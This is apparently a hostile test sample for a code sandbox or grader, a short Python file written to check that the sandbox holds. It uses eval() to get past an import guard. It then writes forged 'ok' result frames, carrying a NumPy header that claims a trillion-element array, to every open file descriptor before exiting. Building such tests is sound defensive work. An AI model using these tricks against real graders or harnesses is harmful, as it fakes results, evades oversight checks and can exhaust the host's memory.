"""Hostile: lying npy header."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
struct = _m("struct")
json = _m("json")


def _frame(data):
    return struct.pack(">I", len(data)) + data


def sigmoid_grad(x):
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
    header = header + " " * (117 - len(header)) + "\n"
    blob = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + b"\0" * 64
    fds = [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]
    message = {"event": "result", "key": "sigmoid/0", "status": "ok", "value": {"t": "array", "blob": 0}, "blobs": 1}
    for fd in fds:
        try:
            os.write(fd, _frame(json.dumps(message).encode()) + _frame(blob))
        except OSError:
            pass
    os._exit(0)
